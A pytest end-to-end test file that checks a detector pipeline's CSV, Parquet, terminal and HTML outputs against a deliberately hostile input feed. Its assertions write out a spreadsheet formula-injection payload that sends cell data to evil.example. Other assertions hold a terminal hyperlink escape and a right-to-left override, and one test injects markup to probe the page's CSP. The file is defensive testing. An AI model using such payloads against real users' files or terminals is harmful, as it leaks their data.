"""Issue #22, the output side: a run of the real pipeline on real sample rows whose titles, texts,
outlet names, urls and ids carry spreadsheet formulas, markup, script URLs and right-to-left
overrides (``tests/hostile.py``). The CSVs must not start a formula in any text cell, the
Parquet twins must keep every value as the feed had it, and report.html, loaded in headless
Chromium, must run no script from the data."""

from __future__ import annotations

import csv
import dataclasses
import json
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from click.testing import CliRunner
from playwright.sync_api import Dialog, Page, sync_playwright

from detector.cli.main import main
from detector.config import Config
from detector.pipeline.daily import run_daily
from detector.report.html import SCRIPT
from detector.report.safety import FORMULA_TRIGGERS, neutralise_formula
from tests.conftest import ROOT
from tests.hostile import MARKUP, OUTLET, REJECTED_ID, RLO, TERMINAL, hostile_feed

pytestmark = pytest.mark.e2e

TABLES = ("flags", "members", "pairs", "outlets", "rejected")
CHROMIUM_ARGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync", "--host-resolver-rules=MAP * ~NOTFOUND",
]  # fmt: skip
# Before any of the page's own code: record every dialog function called, and every CSP refusal.
WATCH = """
window.__called = [];
window.__refused = [];
for (const name of ["alert", "confirm", "prompt", "print"]) {
  window[name] = (...args) => { window.__called.push(name + ": " + String(args[0])); };
}
document.addEventListener("securitypolicyviolation",
  (e) => window.__refused.push(e.effectiveDirective + " " + (e.blockedURI || "inline")));
"""


@pytest.fixture(scope="module")
def hostile_run(
    tmp_path_factory: pytest.TempPathFactory, default_config: Config, small_feed: Path, truth: pd.DataFrame
) -> tuple[Path, pd.DataFrame]:
    """``(out dir, feed)`` of one real run on the hostile feed (bad rows set aside, not fatal)."""
    tmp = tmp_path_factory.mktemp("hostile")
    feed = hostile_feed(small_feed, truth, tmp / "hostile.csv")
    config = dataclasses.replace(
        default_config, ingest=dataclasses.replace(default_config.ingest, on_bad_row="skip")
    )
    run_daily(config, [str(tmp / "hostile.csv")], tmp / "out")
    return tmp / "out", feed


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_csv_cell_starts_a_formula(hostile_run: tuple[Path, pd.DataFrame]) -> None:
    out, _ = hostile_run
    for name in TABLES:
        cells = [cell for row in csv_rows(out / f"{name}.csv") for cell in row.values()]
        running = [c for c in cells if c.startswith(FORMULA_TRIGGERS) and not is_number(c)]
        assert running == [], name
        # The hostile values did reach every file, as text behind an apostrophe.
        assert any(c.startswith("'") and c[1:].startswith(FORMULA_TRIGGERS) for c in cells), name
    flags = pd.read_csv(out / "flags.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert flags["label"].str.startswith("'=HYPERLINK(").any()
    assert (flags["best_cn_outlet"] == "'" + OUTLET).any()
    rejected = csv_rows(out / "rejected.csv")
    assert [r["id"] for r in rejected] == ["'" + REJECTED_ID]


def test_numbers_stay_numbers_and_ids_join(hostile_run: tuple[Path, pd.DataFrame]) -> None:
    out, _ = hostile_run
    flags, members = (csv_rows(out / f"{name}.csv") for name in ("flags", "members"))
    for column in ("rank", "p_value", "score", "lag_hours", "best_similarity", "n_articles"):
        assert all(is_number(row[column]) for row in flags), column
    assert any(row["lag_hours"].startswith("-") for row in flags)  # a negative number, as a number
    # An id that starts with a trigger is neutralised alike in every CSV, so the CSVs still join.
    member_ids = {row["id"] for row in members}
    assert {"'=", "'-"} <= {i[:2] for i in member_ids}
    assert {row[f"best_{b}_id"] for row in flags for b in ("cn", "ru")} <= member_ids
    pairs = csv_rows(out / "pairs.csv")
    assert {row[f"{b}_id"] for row in pairs for b in ("cn", "ru")} <= member_ids


def test_parquet_twins_keep_the_values_unaltered(hostile_run: tuple[Path, pd.DataFrame]) -> None:
    out, feed = hostile_run
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    for name in TABLES:
        twin = pd.read_parquet(out / f"{name}.parquet")
        shown = pd.read_csv(out / f"{name}.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
        assert list(twin.columns) == list(shown.columns), name
        assert len(twin) == len(shown), name
        for column in twin.columns:
            if pd.api.types.is_string_dtype(twin[column]):
                expected = [neutralise_formula(v) if isinstance(v, str) else "" for v in twin[column]]
                assert shown[column].tolist() == expected, (name, column)
        if name != "rejected":  # the manifest vouches for the reports; rejected.csv comes before it
            assert f"{name}_parquet" in manifest["outputs_sha256"], name
    members = pd.read_parquet(out / "members.parquet")
    assert set(members["id"]) <= set(feed["id"])  # verbatim feed ids: a program joins on them
    assert members["id"].str.startswith(("=", "-")).sum() >= 2
    assert members["outlet"].eq(OUTLET).any()
    assert str(members["published_at"].dtype) == "datetime64[us, UTC]"
    flags = pd.read_parquet(out / "flags.parquet")
    assert pd.api.types.is_float_dtype(flags["lag_hours"])
    assert flags["label"].str.startswith('=HYPERLINK("http://evil.example/?x="&A1,"click")').any()


def test_libreoffice_opens_the_csvs_without_formulas(
    hostile_run: tuple[Path, pd.DataFrame], tmp_path: Path, soffice: str
) -> None:
    out, _ = hostile_run
    script = [sys.executable, str(ROOT / "scripts" / "check_csv_formulas.py")]
    ours = subprocess.run([*script, *(str(out / f"{n}.csv") for n in TABLES)], capture_output=True, text=True)
    assert ours.returncode == 0, ours.stdout + ours.stderr
    # The check can fail: the same rows written without the rule do open as formulas.
    raw = tmp_path / "flags.csv"
    pd.read_parquet(out / "flags.parquet").to_csv(raw, index=False)
    theirs = subprocess.run([*script, str(raw)], capture_output=True, text=True)
    assert theirs.returncode == 1, theirs.stdout + theirs.stderr
    formulas = [line for line in theirs.stdout.splitlines() if line.strip().startswith("formula in")]
    assert any(': =HYPERLINK("http://evil.example/?x="&A1,"click")' in line for line in formulas), (
        theirs.stdout
    )


def test_show_prints_hostile_text_as_text(hostile_run: tuple[Path, pd.DataFrame]) -> None:
    """``detector show`` in a terminal: no escape sequence from the data reaches it, and rich
    does not read a title's ``[/]`` as markup (it raised MarkupError)."""
    out, _ = hostile_run
    members = pd.read_parquet(out / "members.parquet")
    nid = members.loc[members["title"].str.contains(TERMINAL, regex=False), "narrative_id"].iloc[0]
    result = CliRunner().invoke(
        main, ["show", nid, "--store", str(out / "detector.duckdb")], env={"COLUMNS": "400"}
    )
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output
    assert "[/] ⟦U+001B⟧]8;;https://evil.example⟦U+0007⟧click" in result.output
    assert "⟦U+202E⟧" in result.output


# ---- report.html in the browser -----------------------------------------------------------------
@dataclass
class Visit:
    page: Page
    dialogs: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def on_dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def watched(self) -> dict[str, list[str]]:
        found: dict[str, list[str]] = self.page.evaluate(
            "({called: window.__called, refused: window.__refused})"
        )
        return found


@contextmanager
def visit(chromium: str, html: Path) -> Iterator[Visit]:
    """``html`` opened in headless Chromium (a fresh profile, no network), watched from the start."""
    with sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
        try:
            page = browser.new_page()
            seen = Visit(page)
            page.add_init_script(WATCH)
            page.on("dialog", seen.on_dialog)
            page.on("request", lambda request: seen.requests.append(request.url))
            page.on("pageerror", lambda error: seen.errors.append(str(error)))
            page.goto(html.as_uri(), wait_until="load")
            yield seen
        finally:
            browser.close()


DOM_FACTS = """() => ({
  scripts: Array.from(document.scripts, (s) => s.textContent),
  handlers: Array.from(document.querySelectorAll("*")).flatMap(
    (e) => Array.from(e.attributes, (a) => a.name).filter((n) => n.startsWith("on"))),
  tags: Array.from(new Set(Array.from(document.querySelectorAll("body *"), (e) => e.localName))).sort(),
  hrefs: Array.from(document.querySelectorAll("[href]"), (e) => e.getAttribute("href")),
  srcs: Array.from(document.querySelectorAll("[src]"), (e) => e.getAttribute("src").slice(0, 22)),
  text: document.body.innerText,
})"""


def test_report_runs_no_script_from_the_data(chromium: str, hostile_run: tuple[Path, pd.DataFrame]) -> None:
    out, feed = hostile_run
    n_flags = len(pd.read_parquet(out / "flags.parquet"))
    with visit(chromium, out / "report.html") as seen:
        facts: dict[str, Any] = seen.page.evaluate(DOM_FACTS)
        watched = seen.watched()
    assert seen.dialogs == []
    assert watched == {"called": [], "refused": []}  # nothing ran, nothing even tried to
    assert seen.errors == []
    assert {url.split(":")[0] for url in seen.requests} <= {"file", "data"}
    # Exactly one script, the page's own (a JSON data island would have to be escaped and tested).
    assert facts["scripts"] == [SCRIPT]
    assert facts["handlers"] == []
    assert not {"svg", "iframe", "style", "object", "embed", "form", "base"} & set(facts["tags"])
    assert set(facts["srcs"]) == {"data:image/png;base64,"}
    links = [h for h in facts["hrefs"] if ":" in h]
    assert links
    assert all(h.startswith(("http://", "https://")) for h in links)
    assert set(links) <= set(feed["url"])
    # The analyst sees the hostile text as text, the outlet name included ...
    for markup in MARKUP[:4]:
        assert markup in facts["text"], markup
    assert OUTLET.replace(RLO, "⟦U+202E⟧") in facts["text"]
    # ... and the right-to-left override as a visible mark, never as a reordering.
    assert RLO not in facts["text"]
    assert "⟦U+202E⟧" in facts["text"]
    assert f"{n_flags} of {n_flags} narratives shown" in facts["text"]  # the page's own script ran


def test_the_policy_blocks_markup_that_escaping_would_miss(
    chromium: str, hostile_run: tuple[Path, pd.DataFrame], tmp_path: Path
) -> None:
    """Defence in depth, and proof that the watch above sees script that runs: the hostile markup
    pasted into the page unescaped is refused by the page's CSP, and runs without it."""
    out, _ = hostile_run
    page = (out / "report.html").read_text(encoding="utf-8")
    broken = page.replace("</body>", "".join(MARKUP) + "</body>")
    (tmp_path / "with_csp.html").write_text(broken, encoding="utf-8")
    start = broken.index('<meta http-equiv="Content-Security-Policy"')
    without = broken[:start] + broken[broken.index(">", start) + 1 :]
    (tmp_path / "without_csp.html").write_text(without, encoding="utf-8")
    with visit(chromium, tmp_path / "with_csp.html") as seen:
        watched = seen.watched()
        shown = seen.page.evaluate("document.getElementById('shown').textContent")
    assert seen.dialogs == []
    assert watched["called"] == []
    assert any(r.startswith("script-src") for r in watched["refused"])
    assert any(r.startswith("style-src") for r in watched["refused"])
    assert not any(url.startswith("https://") for url in seen.requests)
    assert shown.endswith("narratives shown")  # while the page's own script still runs
    with visit(chromium, tmp_path / "without_csp.html") as seen:
        watched = seen.watched()
    assert {"alert: title", "alert: img", "alert: svg", "alert: json"} <= set(watched["called"])
